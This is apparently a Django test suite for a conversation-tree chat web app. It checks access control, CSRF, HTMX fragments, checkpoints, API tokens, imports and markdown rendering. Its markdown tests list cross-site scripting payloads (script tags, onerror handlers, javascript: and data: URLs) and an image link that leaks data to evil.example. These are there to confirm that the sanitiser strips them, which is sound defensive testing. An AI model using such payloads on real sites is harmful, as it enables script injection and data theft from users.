"""The browser UI through Django's test client: every page and fragment for the owner, a
stranger (404), anonymous (sign-in) and, for the audit, staff and non-staff (403)."""

from __future__ import annotations

import io
import json
import uuid
from html.parser import HTMLParser
from urllib.parse import quote, urlencode

from django.test import Client, TestCase
from PIL import Image

from compaction.models import CompactionRecord, RecordStatus, SnapshotPage, Trigger
from conversations import selectors, services
from conversations.compare import word_diff
from conversations.markdown import render
from conversations.models import (
    ApiToken,
    Checkpoint,
    CheckpointSource,
    Conversation,
    ImportJob,
    Message,
)
from conversations.providers.fake import FakeLLMServer
from tests.builders import make_user, new_conversation, text
from tests.fake_models import serve_fake_models


def png_bytes(color: str = "red") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), color).save(out, "PNG")
    return out.getvalue()


class UiBase(TestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        cls.alice = make_user("alice")
        cls.bob = make_user("bob")
        cls.staff = make_user("root", staff=True)
        cls.conv, cls.nodes = new_conversation(
            cls.alice, "hello>hi there>more, hi there>other", title="Alice's plans"
        )
        cls.checkpoint = services.checkpoint_create(conversation=cls.conv, label="start")
        cls.record = CompactionRecord.objects.create(
            conversation=cls.conv,
            anchor=cls.nodes["other"],
            model="openai/test",
            trigger=Trigger.MANUAL,
            status=RecordStatus.READY,
            tokens_before=900,
            tokens_after=300,
            budget_tokens=400,
            rungs=[
                {
                    "rung": "elide",
                    "tokens_before": 900,
                    "tokens_after": 300,
                    "saved": 600,
                    "model_calls": 0,
                    "replaced": [],
                    "details": {},
                }
            ],
            view=[{"id": "x", "role": "user", "parts": [{"type": "text", "text": "[elided]"}]}],
            summary="they planned",
            summary_model="openai/test",
            summary_prompt="Summarise",
        )
        cls.blob = services.blob_store(owner=cls.staff, data=png_bytes())
        cls.page = SnapshotPage.objects.create(
            record=cls.record, index=0, blob=cls.blob, width=8, height=8, billed_tokens=10,
            chars=100, text_hash="0" * 64, first_message_id="a", last_message_id="b",
        )  # fmt: skip

    def conv_urls(self) -> list[str]:
        c = self.conv.pk
        return [
            f"/c/{c}/",
            f"/c/{c}/?m={self.nodes['more'].pk}",
            f"/c/{c}/tree/",
            f"/c/{c}/checkpoints/",
            f"/c/{c}/delete/",
            f"/c/{c}/compare/?m={self.nodes['more'].pk}&m={self.nodes['other'].pk}",
            f"/c/{c}/tree/?from={self.nodes['more'].pk}",
            f"/c/{c}/tree/?gap={self.nodes['hi there'].pk}&n=2",
            f"/c/{c}/tree/?alts={self.nodes['hi there'].pk}&skip=0",
            f"/c/{c}/m/{self.nodes['hello'].pk}/edit/",
            f"/c/{c}/m/{self.nodes['more'].pk}/fork/",
            f"/c/{c}/context/",
            f"/c/{c}/compactions/{self.record.pk}/",
            f"/c/{c}/compactions/{self.record.pk}/blobs/{self.blob.pk}/",
        ]

    def conv_posts(self) -> list[tuple[str, dict[str, str]]]:
        c, m = self.conv.pk, self.nodes
        v = str(self.conv.version)
        return [
            (f"/c/{c}/send/", {"text": "x"}),
            (f"/c/{c}/m/{m['hello'].pk}/edit/", {"text": "x"}),
            (f"/c/{c}/m/{m['hi there'].pk}/regenerate/", {}),
            (f"/c/{c}/m/{m['more'].pk}/select/", {"version": v}),
            (f"/c/{c}/m/{m['more'].pk}/fork/", {"scope": "path"}),
            (f"/c/{c}/tip/", {"message": str(m["more"].pk), "version": v}),
            (f"/c/{c}/checkpoints/", {"label": "x"}),
            (f"/c/{c}/rewind/", {"label": "start", "version": v}),
            (f"/c/{c}/compact/", {}),
            (f"/c/{c}/delete/", {}),
        ]


class AccessTests(UiBase):
    def test_anonymous_is_sent_to_sign_in_everywhere(self) -> None:
        gets = [*self.conv_urls(), "/", "/import/", "/settings/", "/audit/",
                f"/audit/{self.record.pk}/"]  # fmt: skip
        for url in gets:
            response = self.client.get(url)
            assert response.status_code == 302, url
            assert response["Location"].startswith("/login/?next="), url
        for url, data in self.conv_posts():
            response = self.client.post(url, data)
            assert response.status_code == 302, url
            assert response["Location"].startswith("/login/"), url
        assert self.conv.messages.count() == 4

    def test_a_fragment_after_the_session_ended_sends_its_page_to_sign_in(self) -> None:
        page = f"/c/{self.conv.pk}/?m={self.nodes['more'].pk}"
        for url in self.conv_urls():
            response = self.client.get(
                url, headers={"HX-Request": "true", "HX-Current-URL": f"http://testserver{page}"}
            )
            # Not the sign-in form swapped into the fragment's place: the page goes.
            assert response.status_code == 200, url
            assert response["HX-Redirect"] == "/login/?" + urlencode({"next": page}), url
            assert not response.content
        # Only a path of this site is kept to come back to.
        elsewhere = self.client.get(
            f"/c/{self.conv.pk}/tree/",
            headers={"HX-Request": "true", "HX-Current-URL": "https://evil.example//x"},
        )
        assert elsewhere["HX-Redirect"] == "/login/?next=%2F"
        # A history restore is swapped in as the whole page: the redirect stays one.
        restore = self.client.get(
            page, headers={"HX-Request": "true", "HX-History-Restore-Request": "true"}
        )
        assert restore.status_code == 302 and restore["Location"].startswith("/login/")

    def test_a_form_posted_after_the_session_ended_comes_back_to_its_page(self) -> None:
        page = f"/c/{self.conv.pk}/?m={self.nodes['more'].pk}"
        for url, data in self.conv_posts():
            response = self.client.post(url, data, headers={"Referer": f"http://testserver{page}"})
            # Back to the page after signing in: the address posted to takes only POST.
            assert response.status_code == 302, url
            assert response["Location"] == "/login/?" + urlencode({"next": page}), url
        foreign = self.client.post(
            f"/c/{self.conv.pk}/send/", {"text": "x"}, headers={"Referer": "https://evil.example/"}
        )
        assert foreign["Location"] == "/login/?next=%2F"
        assert self.conv.messages.count() == 4
        # Signing out is not a refused page: its own redirect stays.
        self.client.force_login(self.alice)
        assert self.client.post("/logout/", headers={"Referer": page})["Location"] == "/login/"

    def test_the_chats_script_after_the_session_ended_is_told_where_to_sign_in(self) -> None:
        page = f"/c/{self.conv.pk}/"
        for accept in ("text/event-stream", "application/json"):
            for url, data in self.conv_posts():
                response = self.client.post(
                    url, data, headers={"Accept": accept, "Referer": f"http://testserver{page}"}
                )
                # Not a redirect the script would follow to read the sign-in page as
                # its answer: a 401 saying why, and where to go.
                assert response.status_code == 401, url
                assert response.json() == {
                    "error": "not_signed_in",
                    "detail": "your session has ended",
                    "login": "/login/?" + urlencode({"next": page}),
                }, url
        assert self.conv.messages.count() == 4
        # A page the browser navigates to still goes to sign in the usual way.
        browser = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
        response = self.client.get(page, headers={"Accept": browser})
        assert response.status_code == 302 and response["Location"] == f"/login/?next={quote(page)}"

    def test_a_stale_token_tells_the_chats_script_to_reload(self) -> None:
        client = Client(enforce_csrf_checks=True)
        client.force_login(self.alice)
        page = client.get(f"/c/{self.conv.pk}/")
        token = page.context["csrf_token"]
        # Signed in again in another tab since: the browser holds a new CSRF secret.
        client.cookies["csrftoken"] = "x" * 32
        url = f"/c/{self.conv.pk}/send/"
        response = client.post(
            url, {"text": "x"}, headers={"Accept": "text/event-stream", "X-CSRFToken": str(token)}
        )
        assert response.status_code == 403
        assert response.json()["error"] == "stale_page"
        assert "reload" in response.json()["detail"]
        # A form without the script gets Django's explanation, as a page.
        plain = client.post(url, {"text": "x", "csrfmiddlewaretoken": str(token)})
        assert plain.status_code == 403 and b"CSRF" in plain.content
        assert self.conv.messages.count() == 4

    def test_the_sign_in_page_needs_no_user(self) -> None:
        response = self.client.get("/login/")
        assert response.status_code == 200
        assert 'name="password"' in response.content.decode()

    def test_sign_in_and_out(self) -> None:
        response = self.client.post("/login/", {"username": "alice", "password": "pw"})
        assert response.status_code == 302 and response["Location"] == "/"
        assert self.client.get("/").status_code == 200
        response = self.client.post("/logout/")
        assert response.status_code == 302 and response["Location"] == "/login/"
        assert self.client.get("/").status_code == 302

    def test_a_stranger_gets_404_on_every_page_and_fragment(self) -> None:
        self.client.force_login(self.bob)
        for url in self.conv_urls():
            assert self.client.get(url).status_code == 404, url
            assert self.client.get(url, headers={"HX-Request": "true"}).status_code == 404, url
        for url, data in self.conv_posts():
            assert self.client.post(url, data).status_code == 404, url
        self.conv.refresh_from_db()
        assert self.conv.messages.count() == 4 and Conversation.objects.count() == 1
        assert Checkpoint.objects.filter(conversation=self.conv).count() == 1
        # Nor does another user's message open through the stranger's own conversation.
        own, _ = new_conversation(self.bob, "mine")
        assert self.client.get(f"/c/{own.pk}/?m={self.nodes['more'].pk}").status_code == 404
        # And the list's search finds none of the owner's titles or messages.
        for q in ("plans", "hello", "more"):
            assert str(self.conv.pk) not in self.client.get(f"/?q={q}").content.decode(), q

    def test_a_message_of_another_conversation_is_404(self) -> None:
        _, nodes = new_conversation(self.alice, "q>a", title="second")
        self.client.force_login(self.alice)
        c = self.conv.pk
        foreign = nodes["q"].pk
        assert (
            self.client.get(f"/c/{c}/compare/?m={foreign}&m={self.nodes['more'].pk}").status_code
            == 404
        )
        assert self.client.post(f"/c/{c}/m/{foreign}/select/", {"version": 0}).status_code == 404
        assert self.client.get(f"/c/{c}/?m={foreign}").status_code == 404
        assert self.client.get(f"/c/{c}/?m=not-a-uuid").status_code == 404
        assert (
            self.client.get(
                f"/c/{c}/tree/?from={foreign}", headers={"HX-Request": "true"}
            ).status_code
            == 404
        )
        assert self.client.get("/c/not-a-uuid/tree/").status_code == 404

    def test_the_audit_is_for_staff_only(self) -> None:
        urls = [
            "/audit/",
            f"/audit/{self.record.pk}/",
            f"/audit/{self.record.pk}/blobs/{self.blob.pk}/",
        ]
        self.client.force_login(self.alice)
        for url in urls:
            assert self.client.get(url).status_code == 403, url
        self.client.force_login(self.staff)
        for url in urls:
            assert self.client.get(url).status_code == 200, url

    def test_csrf_is_enforced_on_every_mutating_request(self) -> None:
        client = Client(enforce_csrf_checks=True)
        client.force_login(self.alice)
        posts = [*self.conv_posts(), ("/new/", {"title": "t"}), ("/settings/", {"name": "t"}),
                 ("/logout/", {})]  # fmt: skip
        for url, data in posts:
            assert client.post(url, data).status_code == 403, url
        assert Conversation.objects.count() == 1 and ApiToken.objects.count() == 0
        # With the token in the header (what hx-headers on <body> sends) it goes through.
        page = client.get("/")
        token = page.cookies["csrftoken"].value
        assert '"X-CSRFToken": "' in page.content.decode()
        response = client.post("/new/", {"title": "with token"}, headers={"X-CSRFToken": token})
        assert response.status_code == 302
        assert Conversation.objects.filter(title="with token").exists()


class PageTests(UiBase):
    def setUp(self) -> None:
        self.client.force_login(self.alice)

    def test_it_lists_newest_first_with_search_and_fork_provenance(self) -> None:
        new_conversation(self.alice, "x", title="Zebra notes")
        services.conversation_fork(message=self.nodes["more"], owner=self.alice, title="My fork")
        body = self.client.get("/").content.decode()
        assert body.index("My fork") < body.index("Alice&#x27;s plans") < body.index("Zebra")
        assert "fork of" in body and f"/c/{self.conv.pk}/" in body
        found = self.client.get("/?q=zeb").content.decode()
        assert "Zebra notes" in found and "My fork" not in found

    def test_the_search_fragment_is_a_partial_that_varies_on_hx_request(self) -> None:
        response = self.client.get("/?q=plans", headers={"HX-Request": "true"})
        body = response.content.decode()
        assert body.lstrip().startswith('<div id="results">') and "<html" not in body
        assert "HX-Request" in response["Vary"]
        restore = self.client.get(
            "/?q=plans", headers={"HX-Request": "true", "HX-History-Restore-Request": "true"}
        )
        assert "<html" in restore.content.decode()
        assert "HX-Request" in self.client.get("/")["Vary"]

    def test_create_and_delete_with_confirmation(self) -> None:
        response = self.client.post("/new/", {"title": "Fresh", "model": "", "system_prompt": ""})
        conv = Conversation.objects.get(title="Fresh")
        assert response["Location"] == f"/c/{conv.pk}/"
        confirm = self.client.get(f"/c/{conv.pk}/delete/")
        assert "Delete for good" in confirm.content.decode()
        assert Conversation.objects.filter(pk=conv.pk).exists()  # GET deletes nothing
        assert self.client.post(f"/c/{conv.pk}/delete/").status_code == 302
        assert not Conversation.objects.filter(pk=conv.pk).exists()

    def test_the_chat_shows_the_path_with_versions_and_actions(self) -> None:
        response = self.client.get(f"/c/{self.conv.pk}/")
        body = response.content.decode()
        assert (
            "hello" in body
            and "other" in body
            and "more" not in body.split('id="path"')[1].split("</ol>")[0]
        )
        assert "2/2" in body  # "other" is the second answer below "hi there"
        assert f'id="msg-{self.nodes["other"].pk}"' in body
        assert "⚑ start" in body
        assert "Content-Security-Policy" in response
        csp = response["Content-Security-Policy"]
        assert "script-src 'self'" in csp and "unsafe-inline" not in csp
        assert "<script>" not in body  # only <script src=…>

    def test_the_chat_fragment_and_history_restore(self) -> None:
        url = f"/c/{self.conv.pk}/"
        fragment = self.client.get(url, headers={"HX-Request": "true"})
        assert fragment.content.decode().lstrip().startswith('<section id="chat"')
        assert "HX-Request" in fragment["Vary"]
        restore = self.client.get(
            url, headers={"HX-Request": "true", "HX-History-Restore-Request": "true"}
        )
        assert "<html" in restore.content.decode()

    def test_sibling_navigation_moves_the_tip_to_the_newest_leaf_below(self) -> None:
        conv, nodes = new_conversation(self.alice, "q>a1>q2>a2, q>b1, q2>a3", title="nav")
        # The tip is on a3 now; choosing b1 then a1 comes back to the newest leaf (a3).
        conv.refresh_from_db()
        response = self.client.post(
            f"/c/{conv.pk}/m/{nodes['b1'].pk}/select/",
            {"version": conv.version},
            headers={"HX-Request": "true"},
        )
        assert response.status_code == 200
        assert response.content.decode().lstrip().startswith('<section id="chat"')
        assert "arbor:tip-moved" in response["HX-Trigger"]
        conv.refresh_from_db()
        assert conv.tip_id == nodes["b1"].pk
        self.client.post(f"/c/{conv.pk}/m/{nodes['a1'].pk}/select/", {"version": conv.version})
        conv.refresh_from_db()
        assert conv.tip_id == nodes["a3"].pk
        # A reload shows the same branch.
        assert "a3" in self.client.get(f"/c/{conv.pk}/").content.decode()

    def test_a_stale_version_moves_nothing_and_says_so(self) -> None:
        conv, nodes = new_conversation(self.alice, "q>a1, q>b1", title="stale")
        response = self.client.post(
            f"/c/{conv.pk}/m/{nodes['a1'].pk}/select/",
            {"version": 0},
            headers={"HX-Request": "true"},
        )
        assert "changed in another window" in response.content.decode()
        conv.refresh_from_db()
        assert conv.tip_id == nodes["b1"].pk

    def test_tree_map_moves_the_tip_exactly_there(self) -> None:
        self.conv.refresh_from_db()
        response = self.client.post(
            f"/c/{self.conv.pk}/tip/",
            {"message": str(self.nodes["hello"].pk), "version": self.conv.version},
        )
        assert response.status_code == 302
        self.conv.refresh_from_db()
        assert self.conv.tip_id == self.nodes["hello"].pk

    def test_tree_map_page_and_fragments(self) -> None:
        body = self.client.get(f"/c/{self.conv.pk}/tree/").content.decode()
        assert "another branch" in body and "is-tip" in body and "⚑ start" in body
        fragment = self.client.get(
            f"/c/{self.conv.pk}/tree/?from={self.nodes['more'].pk}", headers={"HX-Request": "true"}
        )
        assert fragment.content.decode().lstrip().startswith('<ol class="branch">')
        assert "more" in fragment.content.decode()
        assert "HX-Request" in fragment["Vary"]

    def test_tree_map_folds_long_runs_and_expands_them(self) -> None:
        conv = services.conversation_create(owner=self.alice, title="long")
        services.turn_append(
            conversation=conv, parent_id=None, expected_version=0,
            messages=[{"role": "user" if i % 2 == 0 else "assistant", "parts": text(f"m{i}")}
                      for i in range(120)],
        )  # fmt: skip
        body = self.client.get(f"/c/{conv.pk}/tree/").content.decode()
        assert "more messages" in body
        assert body.count('class="node ') < 20
        skeleton = selectors.tree_skeleton(conversation=conv)
        run = self.client.get(
            f"/c/{conv.pk}/tree/?run={skeleton[2].id}&n=100", headers={"HX-Request": "true"}
        )
        assert run.content.decode().count('class="node ') == 100

    def test_compare_shows_a_word_diff_and_continues_from_a_choice(self) -> None:
        conv, nodes = new_conversation(self.alice, "q>the quick fox, q>the slow fox", title="cmp")
        response = self.client.get(
            f"/c/{conv.pk}/compare/?m={nodes['the quick fox'].pk}&m={nodes['the slow fox'].pk}"
        )
        body = response.content.decode()
        assert "<del>quick</del>" in body and "<ins>slow</ins>" in body
        assert "Continue from this one" in body

    def test_word_diff_escapes_everything(self) -> None:
        old, new = word_diff("<b>a</b> same", "<i>b</i> same")
        assert "<b>" not in old and "&lt;b&gt;" in old and "<ins>&lt;i&gt;b&lt;/i&gt;</ins>" in new

    def test_edit_and_fork_forms_are_fetched_when_opened_or_are_pages_of_their_own(self) -> None:
        c, hello, more = self.conv.pk, self.nodes["hello"], self.nodes["more"]
        chat = self.client.get(f"/c/{c}/?m={more.pk}").content.decode()
        row = chat.split(f'id="msg-{hello.pk}"', 1)[1].split("</li>", 1)[0]
        # The chat carries no text field per message (a long chat's browser cost), only
        # where each form is: fetched by the <details> when opened, a link without JS.
        assert "<textarea" not in row and 'name="title"' not in row
        for action in ("edit", "fork"):
            url = f"/c/{c}/m/{hello.pk}/{action}/"
            assert f'hx-get="{url}" hx-trigger="toggle once"' in row
            assert f'<a href="{url}">' in row
        fragment = self.client.get(f"/c/{c}/m/{hello.pk}/edit/", headers={"HX-Request": "true"})
        body = fragment.content.decode()
        assert "HX-Request" in fragment["Vary"] and "<html" not in body
        assert body.lstrip().startswith("<form") and "data-stream" in body
        assert f'data-cut="msg-{hello.pk}"' in body and ">hello</textarea>" in body
        # Without JavaScript it is a page; its form posts and the turn runs to its end.
        page = self.client.get(f"/c/{c}/m/{hello.pk}/edit/").content.decode()
        assert "<html" in page and ">hello</textarea>" in page and "data-stream" not in page
        fork = self.client.get(f"/c/{c}/m/{more.pk}/fork/").content.decode()
        assert 'name="scope" value="subtree"' in fork and 'name="title"' in fork
        assert f'action="/c/{c}/m/{more.pk}/fork/"' in fork
        # Only a prompt has an edit form.
        answer = self.nodes["hi there"].pk
        assert self.client.get(f"/c/{c}/m/{answer}/edit/").status_code == 400

    def test_a_refused_edit_or_fork_shows_its_page_again_saying_why(self) -> None:
        c, hello, more = self.conv.pk, self.nodes["hello"], self.nodes["more"]
        before = Message.objects.count(), Conversation.objects.count()
        edit = self.client.post(f"/c/{c}/m/{hello.pk}/edit/", {"text": "   "})
        body = edit.content.decode()
        assert edit.status_code == 400 and "<html" in body
        assert "Not sent: Write something first." in body and ">hello</textarea>" in body
        # The chat's script streams the edit and shows a refusal as text.
        streamed = self.client.post(
            f"/c/{c}/m/{hello.pk}/edit/", {"text": ""}, headers={"Accept": "text/event-stream"}
        )
        assert streamed.status_code == 400 and streamed["Content-Type"].startswith("text/plain")
        assert "text:" in streamed.content.decode()
        fork = self.client.post(f"/c/{c}/m/{more.pk}/fork/", {"scope": "everything"})
        body = fork.content.decode()
        assert fork.status_code == 400 and "Not sent: Select a valid choice." in body
        assert 'name="scope" value="subtree"' in body
        assert (Message.objects.count(), Conversation.objects.count()) == before

    def test_fork_with_scope_lands_in_the_new_conversation(self) -> None:
        response = self.client.post(
            f"/c/{self.conv.pk}/m/{self.nodes['hi there'].pk}/fork/",
            {"scope": "subtree", "title": "Sub"},
        )
        fork = Conversation.objects.get(title="Sub")
        assert response["Location"] == f"/c/{fork.pk}/"
        assert fork.messages.count() == 4
        body = self.client.get(f"/c/{fork.pk}/").content.decode()
        assert "Forked from" in body and f"/c/{self.conv.pk}/" in body
        source = self.client.get(f"/c/{self.conv.pk}/").content.decode()
        assert f"/c/{fork.pk}/" in source

    def test_checkpoints_label_list_and_rewind(self) -> None:
        Checkpoint.objects.create(
            conversation=self.conv, label="by-model", message=self.nodes["hello"],
            source=CheckpointSource.MODEL,
        )  # fmt: skip
        dropped = Checkpoint.objects.create(
            conversation=self.conv, label="gone", message=self.nodes["hello"]
        )
        services.checkpoint_drop(checkpoint=dropped, reason="trimmed on resume")
        url = f"/c/{self.conv.pk}/checkpoints/"
        assert self.client.post(url, {"label": "here"}).status_code == 302
        taken = self.client.post(url, {"label": "here"})
        assert taken.status_code == 409 and "already labelled" in taken.content.decode()
        body = self.client.get(url).content.decode()
        assert "set by the model" in body and "set by you" in body
        assert "trimmed on resume" in body
        self.conv.refresh_from_db()
        response = self.client.post(
            f"/c/{self.conv.pk}/rewind/",
            {"label": "start", "digest": "learned things", "version": self.conv.version},
        )
        assert response.status_code == 302
        self.conv.refresh_from_db()
        tip = Message.objects.get(pk=self.conv.tip_id)
        assert tip.origin == "digest" and "learned things" in tip.parts[0]["text"]

    def test_audit_list_filters_and_detail(self) -> None:
        self.client.force_login(self.staff)
        body = self.client.get("/audit/").content.decode()
        assert f"/audit/{self.record.pk}/" in body
        none = self.client.get("/audit/?status=failed").content.decode()
        assert f"/audit/{self.record.pk}/" not in none
        fragment = self.client.get("/audit/?trigger=manual", headers={"HX-Request": "true"})
        assert fragment.content.decode().lstrip().startswith('<div id="records">')
        detail = self.client.get(f"/audit/{self.record.pk}/").content.decode()
        assert "they planned" in detail and "Summarise" in detail and "[elided]" in detail
        assert f"/audit/{self.record.pk}/blobs/{self.blob.pk}/" in detail
        assert "elide" in detail and "600" in detail
        image = self.client.get(f"/audit/{self.record.pk}/blobs/{self.blob.pk}/")
        assert image["Content-Type"] == "image/png"
        other = services.blob_store(owner=self.alice, data=png_bytes("blue"))
        assert self.client.get(f"/audit/{self.record.pk}/blobs/{other.pk}/").status_code == 404
        assert self.client.get(f"/audit/{uuid.uuid4()}/").status_code == 404

    def test_settings_create_shows_the_secret_once_and_revoke(self) -> None:
        response = self.client.post("/settings/", {"name": "laptop"})
        body = response.content.decode()
        token = ApiToken.objects.get(user=self.alice)
        secret = body.split('<pre id="token-secret">')[1].split("</pre>")[0]
        assert secret.startswith("arb_") and "no-store" in response["Cache-Control"]
        assert services.api_token_authenticate(secret=secret) == self.alice
        assert secret not in self.client.get("/settings/").content.decode()
        self.client.force_login(self.bob)
        assert self.client.post(f"/settings/tokens/{token.pk}/revoke/").status_code == 404
        self.client.force_login(self.alice)
        assert self.client.post(f"/settings/tokens/{token.pk}/revoke/").status_code == 302
        assert not ApiToken.objects.exists()

    def _upload(self, content: bytes, name: str) -> str:
        upload = io.BytesIO(content)
        upload.name = name
        with self.captureOnCommitCallbacks(execute=True):
            response = self.client.post("/import/", {"file": upload, "format": "auto"})
        assert response.status_code == 302, response.content
        return response["Location"]

    def test_import_runs_as_a_job_whose_page_shows_the_result(self) -> None:
        self.client.force_login(self.alice)
        export = self.client.get(f"/api/conversations/{self.conv.pk}/export?format=arbor")
        assert export.status_code == 200
        job_url = self._upload(export.content, "export.json")
        job = ImportJob.objects.get()
        assert job_url == f"/import/{job.pk}/" and job.state == "done"
        assert job.conversations_done == 1 and job.messages_done > 0
        body = self.client.get(job_url).content.decode()
        assert "Imported 1 conversation" in body and "every 1s" not in body
        # The poll fragment alone, for HTMX, varying on the header.
        fragment = self.client.get(job_url, headers={"HX-Request": "true"})
        assert "<html" not in fragment.content.decode()
        assert "HX-Request" in fragment["Vary"]
        # Another user cannot see it.
        self.client.force_login(self.bob)
        assert self.client.get(job_url).status_code == 404
        assert self.client.get("/import/not-a-job/").status_code == 404

    def test_a_running_import_page_polls_until_done(self) -> None:
        self.client.force_login(self.alice)
        upload = io.BytesIO(b"[]")
        upload.name = "empty.json"
        # Without running the queued task the job stays queued, and its page polls.
        response = self.client.post("/import/", {"file": upload, "format": "auto"})
        job = ImportJob.objects.get()
        assert job.state == "queued"
        body = self.client.get(response["Location"]).content.decode()
        assert 'hx-trigger="every 1s"' in body

    def test_import_rejects_garbage_with_a_message(self) -> None:
        self.client.force_login(self.alice)
        job_url = self._upload(b"this is not a transcript", "x.txt")
        assert ImportJob.objects.get().state == "failed"
        body = self.client.get(job_url).content.decode()
        assert 'role="alert"' in body


class TurnViewTests(UiBase):
    def setUp(self) -> None:
        self.fake = FakeLLMServer()
        self.models = serve_fake_models(self.fake)
        self.models.__enter__()
        self.addCleanup(self.models.__exit__, None, None, None)
        Conversation.objects.filter(pk=self.conv.pk).update(model="openai/test")
        self.conv.refresh_from_db()
        self.client.force_login(self.alice)

    def test_send_streams_server_sent_events(self) -> None:
        response = self.client.post(
            f"/c/{self.conv.pk}/send/",
            {"text": "tell me", "parent": str(self.conv.tip_id)},
            headers={"Accept": "text/event-stream"},
        )
        assert response["Content-Type"] == "text/event-stream"
        events = b"".join(response.streaming_content).decode()
        assert "event: delta" in events and "event: done" in events
        self.conv.refresh_from_db()
        path = selectors.message_path(conversation_id=self.conv.pk, tip_id=self.conv.tip_id)
        assert [m.parts[0]["text"] for m in path][-2] == "tell me"

    def test_send_without_javascript_runs_the_turn_and_redirects(self) -> None:
        response = self.client.post(f"/c/{self.conv.pk}/send/", {"text": "plain"})
        assert response.status_code == 302
        self.conv.refresh_from_db()
        assert Message.objects.get(pk=self.conv.tip_id).role == "assistant"

    def test_bad_input_answers_400_before_any_stream(self) -> None:
        response = self.client.post(
            f"/c/{self.conv.pk}/send/", {"text": "   "}, headers={"Accept": "text/event-stream"}
        )
        assert response.status_code == 400

    def test_edit_makes_a_sibling_and_a_new_answer(self) -> None:
        hello = self.nodes["hello"]
        self.client.post(f"/c/{self.conv.pk}/m/{hello.pk}/edit/", {"text": "hello again"})
        self.conv.refresh_from_db()
        path = selectors.message_path(conversation_id=self.conv.pk, tip_id=self.conv.tip_id)
        assert path[0].parts[0]["text"] == "hello again" and path[0].parent_id is None
        assert path[-1].role == "assistant"
        assert "2/2" in self.client.get(f"/c/{self.conv.pk}/").content.decode()

    def test_regenerate_makes_an_assistant_sibling(self) -> None:
        answer = self.nodes["hi there"]
        self.client.post(f"/c/{self.conv.pk}/m/{answer.pk}/regenerate/")
        self.conv.refresh_from_db()
        tip = Message.objects.get(pk=self.conv.tip_id)
        assert tip.role == "assistant" and tip.parent_id == answer.parent_id
        assert "2/2" in self.client.get(f"/c/{self.conv.pk}/").content.decode()

    def test_only_prompts_are_edited_and_answers_regenerated(self) -> None:
        c = self.conv.pk
        answer, prompt = self.nodes["hi there"].pk, self.nodes["hello"].pk
        assert self.client.post(f"/c/{c}/m/{answer}/edit/", {"text": "x"}).status_code == 400
        assert self.client.post(f"/c/{c}/m/{prompt}/regenerate/").status_code == 400


def parse_tags(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """The real elements in some HTML (escaped text is not an element)."""
    found: list[tuple[str, list[tuple[str, str | None]]]] = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, attrs))

    Collector().feed(html)
    return found


class MarkdownTests(TestCase):
    """The sanitiser on its own; tests/test_browser_ui.py renders the same catalogue in a
    real browser."""

    def test_it_renders_markdown_and_highlights_code(self) -> None:
        html = render("**b** `x`\n\n```python\nprint(1)\n```")
        assert "<strong>b</strong>" in html and '<span class="nb">print</span>' in html

    def test_raw_html_and_script_urls_never_survive(self) -> None:
        catalogue = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            '<a href="javascript:alert(1)">x</a>',
            "<svg onload=alert(1)><script>alert(1)</script></svg>",
            "<iframe src=//evil.example></iframe>",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        ]
        for source in catalogue:
            tags = parse_tags(render(source))
            names = {name for name, _ in tags}
            assert not names & {"script", "img", "svg", "iframe"}, source
            for _, attrs in tags:
                assert not any(k.startswith("on") for k, _ in attrs), source
                href = dict(attrs).get("href") or ""
                assert not href.lower().startswith(("javascript", "data:")), source

    def test_remote_images_become_links(self) -> None:
        html = render("![secret](https://evil.example/leak?q=data)")
        assert "<img" not in html
        assert 'href="https://evil.example/leak?q=data"' in html and "[image: secret]" in html


class JsonHelpers(TestCase):
    def test_the_chat_view_is_valid_json_in_hx_headers(self) -> None:
        user = make_user("carol")
        self.client.force_login(user)
        body = self.client.get("/").content.decode()
        raw = body.split("hx-headers='")[1].split("'")[0]
        assert set(json.loads(raw)) == {"X-CSRFToken"}


class BigTreeTests(TestCase):
    def test_a_10000_message_tree_map_stays_small(self) -> None:
        user = make_user("big")
        conv = services.conversation_create(owner=user, title="big")
        parent = None
        for turn in range(50):
            result = services.turn_append(
                conversation=conv,
                parent_id=parent,
                expected_version=None,
                messages=[
                    {"role": "user" if i % 2 == 0 else "assistant", "parts": text(f"t{turn} m{i}")}
                    for i in range(200)
                ],
            )
            parent = result.message_ids[99]  # the next turn branches off mid-way
        self.client.force_login(user)
        response = self.client.get(f"/c/{conv.pk}/tree/")
        body = response.content.decode()
        assert "10000 messages" in body
        assert body.count('class="node ') < 500
        assert len(body) < 400_000
        chat = self.client.get(f"/c/{conv.pk}/")
        assert chat.status_code == 200 and "earlier messages" in chat.content.decode()
